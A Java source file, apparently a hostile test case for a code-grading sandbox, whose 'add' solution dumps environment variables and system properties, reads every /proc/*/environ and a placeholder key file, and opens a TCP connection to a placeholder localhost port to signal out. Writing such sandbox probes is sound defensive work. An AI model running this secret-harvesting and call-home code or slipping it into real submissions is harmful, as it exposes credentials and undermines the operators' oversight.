// Show the environment and the files that hold keys, and call home.
// catalogue: H17, H20, H21
// shows: canary, tcp
// ends: wrong_answer, runtime_error
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;

public class Solution {
    public static long add(long a, long b) throws Exception {
        System.out.println("attacking " + System.getenv() + System.getProperties());
        try (Stream<Path> paths = Files.list(Path.of("/proc"))) {
            Stream<Path> all = paths.map(path -> path.resolve("environ"));
            Stream.concat(all, Stream.of(Path.of("@FILE@"))).forEach(path -> {
                try {
                    System.out.println(new String(Files.readAllBytes(path)));
                } catch (Exception ignored) {
                    return;
                }
            });
        }
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress("127.0.0.1", Integer.parseInt("@PORT@")), 200);
        } catch (Exception ignored) {
            System.out.flush();
        }
        return -12345;
    }
}
